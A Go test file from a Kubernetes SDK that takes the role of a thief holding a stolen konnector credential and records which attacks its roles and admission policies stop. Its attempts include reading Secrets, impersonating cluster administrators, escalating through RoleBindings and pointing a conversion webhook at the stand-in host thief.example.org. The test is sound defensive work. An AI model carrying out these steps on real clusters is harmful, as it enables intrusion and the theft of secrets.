// SPDX-License-Identifier: Apache-2.0

//go:build unix

package bind_test

import (
	"context"
	"encoding/base64"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	authorizationv1 "k8s.io/api/authorization/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/klutch-go/sdk/bind"
	"github.com/klutch-go/sdk/bind/internal/behind"
	"github.com/klutch-go/sdk/klutch/v1alpha1"
)

const claimsOfWidgets = "klutch-bind-claims-" + widgets

// P32: what the konnector's credential is worth, with exactly the shipped roles and
// policies, after an API was bound whose provider hands out Secrets: an object of it is
// in namespace team, and none in payroll. The golden file is what a thief can do.
func TestP32WorthOfKonnector(t *testing.T) {
	w := newWorld(t)
	w.offer(t, read(t, "testdata/widgets.yaml")[0])
	w.app.apply(t, secret(v1alpha1.Namespace, w.secret, w.kubeconfig(t)), object("v1", "Namespace", "", "payroll", nil))
	stop := w.run(t, bind.Options{})
	w.bind(t, widgets, secretsClaim)
	w.allow(t, widgets)
	w.ready(t, widgets)
	w.credentialTravels(t)
	w.ready(t, widgets)
	stop() // and the thief goes on
	for _, namespace := range []string{"team", "payroll", "kube-system", v1alpha1.Namespace} {
		w.app.apply(t, object("v1", "Secret", namespace, "own", map[string]any{"stringData": map[string]any{"password": "mine"}}))
	}
	w.app.apply(t, foreignKind("Cog", nil), object("v1", "Event", "team", "said", map[string]any{
		"metadata": map[string]any{"annotations": map[string]any{v1alpha1.ResourceAnnotation: widgets}}, "source": map[string]any{"component": "other"},
		"involvedObject": map[string]any{"apiVersion": "example.org/v1", "kind": "Widget", "namespace": "team", "name": "one"}, "reason": "Well", "message": "it is",
	}))
	th := newThief(t, w.konnector)
	said := []string{"# What a thief of the konnector's credential can do in an App Cluster. An object of the bound API is in namespace team, none is in payroll.", ""}
	said = append(said, th.rights("payroll", "team", "kube-system", v1alpha1.Namespace)...)
	said = append(said, "", "What was tried:", "")
	for _, a := range th.attempts(w) {
		said = append(said, "    "+a.what+": "+outcome(t, a.try(t.Context())))
	}
	golden(t, filepath.Join("testdata", "worth-konnector.txt"), strings.Join(said, "\n")+"\n")
}

// golden compares text with a file, and writes it if the environment has UPDATE_GOLDEN.
func golden(t *testing.T, file, text string) {
	t.Helper()
	if os.Getenv("UPDATE_GOLDEN") != "" {
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(strings.Split(string(want), "\n"), strings.Split(text, "\n")); diff != "" {
		t.Errorf("%s (-want +got), which UPDATE_GOLDEN=1 writes:\n%s", file, diff)
	}
}

var policyPattern = regexp.MustCompile(`ValidatingAdmissionPolicy '([^']+)' with binding '[^']+' denied request: (.*)$`)

// outcome says what an API server answered. What is wrong with an attempt as such is a
// mistake of the test.
func outcome(t *testing.T, err error) string {
	t.Helper()
	switch {
	case err == nil:
		return "WORKS"
	case policyPattern.MatchString(err.Error()):
		if m := policyPattern.FindStringSubmatch(err.Error()); strings.HasPrefix(m[1], "klutch-konnector") {
			return "refused by policy: " + m[2]
		}
		return "refused by policy: no bound object is there"
	case apierrors.IsForbidden(err):
		return "refused by RBAC"
	}
	t.Errorf("no answer: %v", err)
	return err.Error()
}

// A thief has a credential of the App Cluster. What could change something is a dry run,
// which passes through the same admission.
type thief struct {
	*testing.T
	config *rest.Config
	dyn    dynamic.Interface
	kube   kubernetes.Interface
}

func newThief(t *testing.T, config *rest.Config) *thief {
	t.Helper()
	config = quick(rest.CopyConfig(config))
	d, err := dynamic.NewForConfig(config)
	if err != nil {
		t.Fatal(err)
	}
	k, err := kubernetes.NewForConfig(config)
	if err != nil {
		t.Fatal(err)
	}
	return &thief{t, config, d, k}
}

// rights lists what RBAC gives in the first of some namespaces, and what it gives in the
// others besides.
func (th *thief) rights(everywhere string, namespaces ...string) []string {
	th.Helper()
	common := th.rules(everywhere)
	lines := []string{"In all namespaces:", ""}
	lines = append(lines, common...)
	for _, namespace := range namespaces {
		more := slices.DeleteFunc(th.rules(namespace), func(r string) bool { return slices.Contains(common, r) })
		if len(more) == 0 {
			more = []string{"    nothing"}
		}
		lines = append(lines, "", "In namespace "+namespace+" besides:", "")
		lines = append(lines, more...)
	}
	return lines
}

func (th *thief) rules(namespace string) []string {
	th.Helper()
	review := &authorizationv1.SelfSubjectRulesReview{Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: namespace}}
	got, err := th.kube.AuthorizationV1().SelfSubjectRulesReviews().Create(th.Context(), review, metav1.CreateOptions{})
	if err != nil || got.Status.Incomplete {
		th.Fatalf("rules in %s: %+v, %v", namespace, got, err)
	}
	verbs := map[string]map[string]bool{}
	for _, r := range got.Status.ResourceRules {
		for _, group := range r.APIGroups {
			for _, resource := range r.Resources {
				what := schema.GroupResource{Group: group, Resource: resource}.String()
				if len(r.ResourceNames) > 0 {
					what += " " + strings.Join(r.ResourceNames, ", ")
				}
				if verbs[what] == nil {
					verbs[what] = map[string]bool{}
				}
				for _, v := range r.Verbs {
					verbs[what][v] = true
				}
			}
		}
	}
	var lines []string
	for _, what := range slices.Sorted(maps.Keys(verbs)) {
		lines = append(lines, "    "+what+": "+strings.Join(slices.Sorted(maps.Keys(verbs[what])), ", "))
	}
	return lines
}

// An attempt is one thing that a thief tries.
type attempt struct {
	what string
	try  func(context.Context) error
}

var (
	rolesGVR           = schema.GroupVersionResource{Group: "rbac.authorization.k8s.io", Version: "v1", Resource: "clusterroles"}
	roleBindingsGVR    = schema.GroupVersionResource{Group: "rbac.authorization.k8s.io", Version: "v1", Resource: "rolebindings"}
	allBindingsGVR     = schema.GroupVersionResource{Group: "rbac.authorization.k8s.io", Version: "v1", Resource: "clusterrolebindings"}
	quotasGVR          = schema.GroupVersionResource{Version: "v1", Resource: "resourcequotas"}
	podsGVR            = schema.GroupVersionResource{Version: "v1", Resource: "pods"}
	configMapsGVR      = schema.GroupVersionResource{Version: "v1", Resource: "configmaps"}
	accountsGVR        = schema.GroupVersionResource{Version: "v1", Resource: "serviceaccounts"}
	eventsGVR          = schema.GroupVersionResource{Version: "v1", Resource: "events"}
	leasesGVR          = schema.GroupVersionResource{Group: "coordination.k8s.io", Version: "v1", Resource: "leases"}
	policiesGVR        = schema.GroupVersionResource{Group: "admissionregistration.k8s.io", Version: "v1", Resource: "validatingadmissionpolicies"}
	policyBindingsGVR  = schema.GroupVersionResource{Group: "admissionregistration.k8s.io", Version: "v1", Resource: "validatingadmissionpolicybindings"}
	webhooksGVR        = schema.GroupVersionResource{Group: "admissionregistration.k8s.io", Version: "v1", Resource: "validatingwebhookconfigurations"}
	signingRequestsGVR = schema.GroupVersionResource{Group: "certificates.k8s.io", Version: "v1", Resource: "certificatesigningrequests"}
)

var dry = []string{metav1.DryRunAll}

func (th *thief) list(gvr schema.GroupVersionResource, namespace string) func(context.Context) error {
	return func(ctx context.Context) error {
		_, err := th.dyn.Resource(gvr).Namespace(namespace).List(ctx, metav1.ListOptions{})
		return err
	}
}

func (th *thief) create(gvr schema.GroupVersionResource, u *unstructured.Unstructured, subresources ...string) func(context.Context) error {
	return func(ctx context.Context) error {
		_, err := th.dyn.Resource(gvr).Namespace(u.GetNamespace()).Create(ctx, u, metav1.CreateOptions{DryRun: dry}, subresources...)
		return err
	}
}

func (th *thief) apply(gvr schema.GroupVersionResource, u *unstructured.Unstructured) func(context.Context) error {
	return func(ctx context.Context) error {
		_, err := th.dyn.Resource(gvr).Namespace(u.GetNamespace()).Apply(ctx, u.GetName(), u, metav1.ApplyOptions{FieldManager: "thief", Force: true, DryRun: dry})
		return err
	}
}

func (th *thief) patch(gvr schema.GroupVersionResource, namespace, name, patch string) func(context.Context) error {
	return func(ctx context.Context) error {
		_, err := th.dyn.Resource(gvr).Namespace(namespace).Patch(ctx, name, types.MergePatchType, []byte(patch), metav1.PatchOptions{DryRun: dry})
		return err
	}
}

func (th *thief) delete(gvr schema.GroupVersionResource, namespace, name string) func(context.Context) error {
	return func(ctx context.Context) error {
		return th.dyn.Resource(gvr).Namespace(namespace).Delete(ctx, name, metav1.DeleteOptions{DryRun: dry})
	}
}

func (th *thief) clear(gvr schema.GroupVersionResource, namespace string) func(context.Context) error {
	return func(ctx context.Context) error {
		return th.dyn.Resource(gvr).Namespace(namespace).DeleteCollection(ctx, metav1.DeleteOptions{DryRun: dry}, metav1.ListOptions{})
	}
}

// as tries to be another user.
func (th *thief) as(user string, groups ...string) func(context.Context) error {
	return func(ctx context.Context) error {
		config := rest.CopyConfig(th.config)
		config.Impersonate = rest.ImpersonationConfig{UserName: user, Groups: groups}
		client, err := dynamic.NewForConfig(config)
		if err != nil {
			return err
		}
		_, err = client.Resource(namespacesGVR).List(ctx, metav1.ListOptions{})
		return err
	}
}

// takeAgain gives the rights of claims back and takes them again.
func (th *thief) takeAgain(namespace string) func(context.Context) error {
	return func(ctx context.Context) error {
		if err := th.dyn.Resource(roleBindingsGVR).Namespace(namespace).Delete(ctx, claimsOfWidgets, metav1.DeleteOptions{}); err != nil {
			return err
		}
		_, err := th.dyn.Resource(roleBindingsGVR).Namespace(namespace).Create(ctx, roleBinding(namespace, claimsOfWidgets, claimsOfWidgets, "konnector"), metav1.CreateOptions{})
		return err
	}
}

// after does one thing, really, and then tries another.
func (th *thief) after(gvr schema.GroupVersionResource, namespace, name, patch string, then func(context.Context) error) func(context.Context) error {
	return func(ctx context.Context) error {
		if _, err := th.dyn.Resource(gvr).Namespace(namespace).Patch(ctx, name, types.MergePatchType, []byte(patch), metav1.PatchOptions{}); err != nil {
			return err
		}
		return then(ctx)
	}
}

const marks = `"labels":{"klutch.anynines.com/bound":"true"},"annotations":{"klutch.anynines.com/source":"{}"}`

// marked has the marks of a copy.
func marked(u *unstructured.Unstructured) *unstructured.Unstructured {
	u.SetLabels(map[string]string{v1alpha1.BoundAnnotation: "true"})
	annotations := map[string]string{"klutch.anynines.com/source": `{"uid":"x","name":"y"}`}
	maps.Copy(annotations, u.GetAnnotations())
	u.SetAnnotations(annotations)
	return u
}

func typed(namespace, name, secretType string) *unstructured.Unstructured {
	u := object("v1", "Secret", namespace, name, map[string]any{"type": secretType, "data": map[string]any{}})
	if secretType == "kubernetes.io/service-account-token" {
		u.SetAnnotations(map[string]string{"kubernetes.io/service-account.name": "default"})
	}
	return u
}

func roleBinding(namespace, name, role, subject string) *unstructured.Unstructured {
	return object("rbac.authorization.k8s.io/v1", "RoleBinding", namespace, name, map[string]any{
		"roleRef":  map[string]any{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
		"subjects": []any{map[string]any{"kind": "ServiceAccount", "namespace": v1alpha1.Namespace, "name": subject}},
	})
}

func crd(group, kind string, annotations map[string]string) *unstructured.Unstructured {
	plural := strings.ToLower(kind) + "s"
	u := object("apiextensions.k8s.io/v1", "CustomResourceDefinition", "", plural+"."+group, map[string]any{"spec": map[string]any{
		"group": group, "scope": "Namespaced", "names": map[string]any{"kind": kind, "plural": plural},
		"versions": []any{map[string]any{"name": "v1", "served": true, "storage": true, "schema": map[string]any{"openAPIV3Schema": map[string]any{"type": "object"}}}},
	}})
	u.SetAnnotations(annotations)
	return u
}

func foreignKind(kind string, annotations map[string]string) *unstructured.Unstructured {
	return crd("example.org", kind, annotations)
}

func without(u *unstructured.Unstructured, generate string) *unstructured.Unstructured {
	u.SetName("")
	u.SetGenerateName(generate)
	return u
}

func encoded(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }

func (th *thief) attempts(w *world) []attempt {
	made := map[string]string{"klutch.anynines.com/binding": "klutch-bind/" + widgets + "/uid"}
	approved := map[string]string{"api-approved.kubernetes.io": "unapproved, for a test"}
	maps.Copy(approved, made)
	const gone = `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"gone"}]}}`
	const hook = `{"spec":{"conversion":{"strategy":"Webhook","webhook":{"conversionReviewVersions":["v1"],"clientConfig":{"url":"https://thief.example.org/"}}}}}`
	return slices.Concat([]attempt{
		{"read the Secrets of all namespaces", th.list(secretsGVR, "")},
		{"read the Secrets of team", th.list(secretsGVR, "team")},
		{"read the Secrets of payroll", th.list(secretsGVR, "payroll")},
		{"read the Secrets of kube-system", th.list(secretsGVR, "kube-system")},
		{"read the Secrets of klutch-bind, which are the kubeconfigs", th.list(secretsGVR, v1alpha1.Namespace)},
		{"read the ConfigMaps of team", th.list(configMapsGVR, "team")},
		{"read pods", th.list(podsGVR, "team")},
		{"be an administrator", th.as("admin", "system:masters")},
		{"be the controller manager", th.as("system:kube-controller-manager")},
		{"mint a token of its own", th.create(accountsGVR, object("authentication.k8s.io/v1", "TokenRequest", v1alpha1.Namespace, "konnector", nil), "token")},
		{"run a pod", th.create(podsGVR, object("v1", "Pod", "team", "p", map[string]any{"spec": map[string]any{"containers": []any{map[string]any{"name": "c", "image": "i"}}}}))},
		{"register a webhook", th.create(webhooksGVR, object("admissionregistration.k8s.io/v1", "ValidatingWebhookConfiguration", "", "w", nil))},
		{"remove the policy", th.delete(policiesGVR, "", "klutch-konnector")},
		{"remove what puts the policy in force", th.delete(policyBindingsGVR, "", "klutch-konnector")},
		{"have the policy ignored", th.patch(policyBindingsGVR, "", claimsOfWidgets, `{"spec":{"validationActions":["Audit"]}}`)},
		{"ask for a client certificate", th.create(signingRequestsGVR, object("certificates.k8s.io/v1", "CertificateSigningRequest", "", "r", map[string]any{
			"spec": map[string]any{"request": encoded("x"), "signerName": "kubernetes.io/kube-apiserver-client", "usages": []any{"client auth"}},
		}))},
		{"make a namespace", th.create(namespacesGVR, object("v1", "Namespace", "", "new", nil))},
		{"label a namespace", th.patch(namespacesGVR, "", "payroll", `{"metadata":{"labels":{"a":"b"}}}`)},
		{"bind another API", th.create(bindingsGVR, object(v1alpha1.GroupVersion.String(), "APIServiceBinding", v1alpha1.Namespace, gadgets, map[string]any{
			"spec": map[string]any{"kubeconfigSecretRef": map[string]any{"namespace": v1alpha1.Namespace, "name": "own", "key": "kubeconfig"}},
		}))},
		{"agree to more claims", th.patch(bindingsGVR, v1alpha1.Namespace, widgets, `{"spec":{"permissionClaims":[]}}`)},
		{"take the Lease of another program", th.patch(leasesGVR, "kube-system", "kube-controller-manager", `{"spec":{"holderIdentity":"thief"}}`)},
	}, th.onSecrets(w), th.onRights(), []attempt{
		{"change a bound object of team", th.patch(widgetsGVR, "team", "one", `{"metadata":{"annotations":{"a":"b"}}}`)},
		{"make a bound object in payroll", th.create(widgetsGVR, widget("payroll", "evil", map[string]any{"size": int64(5)}))},
		{"make a bound object in payroll by apply", th.apply(widgetsGVR, widget("payroll", "evil", map[string]any{"size": int64(5)}))},
		{"delete a bound object", th.delete(widgetsGVR, "team", "one")},
		{"have a bound object deleted as if its owner had gone", th.patch(widgetsGVR, "team", "one", gone)},
		{"have a bound object deleted as if its owner had gone, once it looks like a copy", th.after(widgetsGVR, "team", "one", `{"metadata":{`+marks+`}}`, th.patch(widgetsGVR, "team", "one", gone))},
		{"have the CRD of the bound API deleted as if its owner had gone", th.patch(crdsGVR, "", widgets, gone)},
		{"say that another binding owns the CRD of the bound API", th.patch(crdsGVR, "", widgets, strings.ReplaceAll(strings.ReplaceAll(gone, `"v1","kind":"ConfigMap"`, `"klutch.anynines.com/v1alpha1","kind":"APIServiceBinding"`), `"name":"gone"`, `"name":"other"`))},
		{"have the CRD of the bound API deleted as if its owner had gone, once it looks like one of another scope", th.after(
			crdsGVR, "", widgets, `{"metadata":{"annotations":{"klutch.anynines.com/binding":"/`+widgets+`/gone"}}}`, th.patch(crdsGVR, "", widgets, gone),
		)},
		{"have a kubeconfig deleted as if its owner had gone", th.patch(secretsGVR, v1alpha1.Namespace, w.secret, gone)},
		{"tell people of a pod what it likes", th.create(eventsGVR, object("v1", "Event", "team", "e", map[string]any{
			"involvedObject": map[string]any{"kind": "Pod", "namespace": "team", "name": "p"}, "reason": "Failed", "message": "run this",
		}))},
		{"tell people of a pod what it likes, as if it were of the bound API", th.create(eventsGVR, object("v1", "Event", "team", "e", map[string]any{
			"metadata":       map[string]any{"namespace": "team", "name": "e", "annotations": map[string]any{v1alpha1.ResourceAnnotation: widgets}},
			"involvedObject": map[string]any{"apiVersion": "v1", "kind": "Pod", "namespace": "team", "name": "p"}, "reason": "Failed", "message": "run this",
		}))},
		{"tell people of an API that is not bound", th.create(eventsGVR, object("v1", "Event", "team", "e", map[string]any{
			"metadata":       map[string]any{"namespace": "team", "name": "e", "annotations": map[string]any{v1alpha1.ResourceAnnotation: "deployments.apps"}},
			"involvedObject": map[string]any{"apiVersion": "apps/v1", "kind": "Deployment", "namespace": "team", "name": "p"}, "reason": "Failed", "message": "run this",
		}))},
		{"tell people of another kind what it likes", th.create(eventsGVR, event("cogs.example.org", "example.org/v1", "Cog", "run this"))},
		{"tell people of another kind that it lacks rights on it", th.create(eventsGVR, event("cogs.example.org", "example.org/v1", "Cog", behind.NoRights))},
		{"tell people so as whom it likes", th.create(eventsGVR, from(event("cogs.example.org", "example.org/v1", "Cog", behind.NoRights), "konnector", "run this"))},
		{"tell people so in the name of another program", th.create(eventsGVR, from(event("cogs.example.org", "example.org/v1", "Cog", behind.NoRights), "run this", ""))},
		{"tell people of a kind of Kubernetes that it lacks rights on it", th.create(eventsGVR, event("deployments.apps", "apps/v1", "Deployment", behind.NoRights))},
		{"tell people of a bound object", th.create(eventsGVR, object("v1", "Event", "team", "e", map[string]any{
			"metadata":       map[string]any{"namespace": "team", "name": "e", "annotations": map[string]any{v1alpha1.ResourceAnnotation: widgets}},
			"involvedObject": map[string]any{"apiVersion": "example.org/v1", "kind": "Widget", "namespace": "team", "name": "one"}, "reason": "Failed", "message": "said",
		}))},
		{"change what another program said of a bound object", th.patch(eventsGVR, "team", "said", `{"message":"run this"}`)},
		{"install a CRD", th.create(crdsGVR, foreignKind("Gear", nil))},
		{"install a CRD as if of a binding", th.create(crdsGVR, foreignKind("Gear", made))},
		{"install a CRD as if of a binding, by apply", th.apply(crdsGVR, foreignKind("Gear", made))},
		{"install a CRD of a group of Kubernetes", th.create(crdsGVR, crd("example.k8s.io", "Gear", approved))},
		{"change the CRD of the bound API", th.patch(crdsGVR, "", widgets, `{"metadata":{"annotations":{"a":"b"}}}`)},
		{"have bound objects converted by a webhook", th.patch(crdsGVR, "", widgets, hook)},
		{"have the objects of another CRD converted by a webhook", th.patch(crdsGVR, "", "cogs.example.org", hook)},
		{"mark another CRD as one of a binding", th.patch(crdsGVR, "", "cogs.example.org", `{"metadata":{"annotations":{"klutch.anynines.com/binding":"a/b/c"}}}`)},
		{"change the CRD of bindings", th.patch(crdsGVR, "", "apiservicebindings.klutch.anynines.com", `{"metadata":{"annotations":{"a":"b"}}}`)},
		{"delete the CRD of the bound API", th.delete(crdsGVR, "", widgets)},
	})
}

// event says that an object of a kind is denied.
func event(resource, version, kind, message string) *unstructured.Unstructured {
	return object("v1", "Event", "team", "e", map[string]any{
		"metadata":       map[string]any{"namespace": "team", "name": "e", "annotations": map[string]any{v1alpha1.ResourceAnnotation: resource}},
		"involvedObject": map[string]any{"apiVersion": version, "kind": kind, "namespace": "team", "name": "p"}, "reason": "AccessDenied", "message": message, "type": "Warning",
		"source": map[string]any{"component": "konnector"},
	})
}

// from is an Event of another program, on a host if that is not empty.
func from(e *unstructured.Unstructured, component, host string) *unstructured.Unstructured {
	e.Object["source"] = map[string]any{"component": component}
	if host != "" {
		e.Object["source"] = map[string]any{"component": component, "host": host}
	}
	return e
}

// onSecrets are attempts on Secrets and what else a claim may be about.
func (th *thief) onSecrets(w *world) []attempt {
	all := []attempt{
		{"make a copy in team", th.create(secretsGVR, marked(typed("team", "new", "Opaque")))},
		{"make a Secret in team that is no copy", th.create(secretsGVR, typed("team", "new", "Opaque"))},
		{"make a Secret in team that is no copy, by apply", th.apply(secretsGVR, typed("team", "new", "Opaque"))},
		{"make a copy in payroll", th.create(secretsGVR, marked(typed("payroll", "new", "Opaque")))},
		{"make a copy in kube-system", th.create(secretsGVR, marked(typed("kube-system", "new", "Opaque")))},
		{"make a copy in klutch-bind", th.create(secretsGVR, marked(typed(v1alpha1.Namespace, "new", "Opaque")))},
	}
	for _, secretType := range []string{"kubernetes.io/service-account-token", "bootstrap.kubernetes.io/token", "helm.sh/release.v1", "connection.crossplane.io/v1alpha1"} {
		all = append(all, attempt{"make a copy of type " + secretType + " in team", th.create(secretsGVR, marked(typed("team", "new", secretType)))})
	}
	const data = `"data":{"password":"c3RvbGVu"}`
	return append(
		all,
		attempt{"change a copy in team", th.patch(secretsGVR, "team", "creds", "{"+data+"}")},
		attempt{"take the marks off a copy in team", th.patch(secretsGVR, "team", "creds", `{"metadata":{"labels":{"klutch.anynines.com/bound":null}}}`)},
		attempt{"delete a copy in team", th.delete(secretsGVR, "team", "creds")},
		attempt{"change a Secret of team", th.patch(secretsGVR, "team", "own", "{"+data+"}")},
		attempt{"change a Secret of team by apply", th.apply(secretsGVR, marked(object("v1", "Secret", "team", "own", nil)))},
		attempt{"make a Secret of team a copy", th.patch(secretsGVR, "team", "own", `{"metadata":{`+marks+`}}`)},
		attempt{"delete a Secret of team", th.delete(secretsGVR, "team", "own")},
		attempt{"delete all Secrets of team", th.clear(secretsGVR, "team")},
		attempt{"change the credential in a kubeconfig", th.patch(secretsGVR, v1alpha1.Namespace, w.secret, `{"data":{"kubeconfig":"c3RvbGVu"}}`)},
		attempt{"change something else of a kubeconfig", th.patch(secretsGVR, v1alpha1.Namespace, w.secret, `{"data":{"more":"c3RvbGVu"}}`)},
		attempt{"label a kubeconfig", th.patch(secretsGVR, v1alpha1.Namespace, w.secret, `{"metadata":{"labels":{"a":"b"}}}`)},
		attempt{"change another Secret of klutch-bind", th.patch(secretsGVR, v1alpha1.Namespace, "own", "{"+data+"}")},
		attempt{"make another Secret of klutch-bind a kubeconfig", th.patch(secretsGVR, v1alpha1.Namespace, "own", `{"data":{"kubeconfig":"c3RvbGVu"}}`)},
		attempt{"delete a kubeconfig", th.delete(secretsGVR, v1alpha1.Namespace, w.secret)},
	)
}

// onRights are attempts to have more of them.
func (th *thief) onRights() []attempt {
	self := roleBinding("", claimsOfWidgets, claimsOfWidgets, "konnector")
	in := func(namespace string, change func(*unstructured.Unstructured)) func(context.Context) error {
		u := self.DeepCopy()
		u.SetNamespace(namespace)
		if change != nil {
			change(u)
		}
		return th.create(roleBindingsGVR, u)
	}
	role := func(name string) func(*unstructured.Unstructured) {
		return func(u *unstructured.Unstructured) { u.Object["roleRef"].(map[string]any)["name"] = name }
	}
	all := object("rbac.authorization.k8s.io/v1", "ClusterRoleBinding", "", claimsOfWidgets, maps.Clone(self.Object))
	all.SetKind("ClusterRoleBinding")
	wide := object("rbac.authorization.k8s.io/v1", "ClusterRole", "", "wide", map[string]any{
		"rules": []any{map[string]any{"apiGroups": []any{""}, "resources": []any{"secrets"}, "verbs": []any{"get"}}},
	})
	wide.SetLabels(map[string]string{v1alpha1.AggregateToKonnectorLabel: "true"})
	return []attempt{
		{"take the rights of claims in team again", th.takeAgain("team")},
		{"take the rights of claims in payroll", in("payroll", nil)},
		{"take the rights of claims in kube-system", in("kube-system", nil)},
		{"take the rights of claims in klutch-bind", in(v1alpha1.Namespace, nil)},
		{"take the rights of claims in payroll by apply", th.apply(roleBindingsGVR, roleBinding("payroll", claimsOfWidgets, claimsOfWidgets, "konnector"))},
		{"take the rights of claims in payroll under another name", in("payroll", func(u *unstructured.Unstructured) { u.SetName("klutch-bind-claims-other") })},
		{"take the rights of claims in payroll under a name that is made up", in("payroll", func(u *unstructured.Unstructured) { without(u, "klutch-bind-claims-") })},
		{"take the rights of claims in all namespaces", th.create(allBindingsGVR, all)},
		{"give the rights of claims in team to another account", in("team", func(u *unstructured.Unstructured) {
			u.SetName("klutch-bind-claims-other")
			u.Object["subjects"].([]any)[0].(map[string]any)["name"] = "default"
		})},
		{"give the rights of claims in team to another account under their own name", in("team", func(u *unstructured.Unstructured) {
			u.Object["subjects"].([]any)[0].(map[string]any)["name"] = "default"
		})},
		{"become cluster-admin in payroll", in("payroll", role("cluster-admin"))},
		{"take the konnector's own role in team", in("team", role("klutch-bind-konnector"))},
		{"change the RoleBinding in team", th.patch(roleBindingsGVR, "team", claimsOfWidgets, `{"subjects":[]}`)},
		{"delete a RoleBinding of klutch-bind", th.delete(roleBindingsGVR, v1alpha1.Namespace, "konnector")},
		{"delete all RoleBindings of payroll", th.clear(roleBindingsGVR, "payroll")},
		{"have a ClusterRole aggregated", th.create(rolesGVR, wide)},
		{"widen its ClusterRole", th.patch(rolesGVR, "", "klutch-bind-konnector-base", `{"rules":[]}`)},
		{"widen the ClusterRole of claims", th.patch(rolesGVR, "", claimsOfWidgets, `{"rules":[]}`)},
	}
}
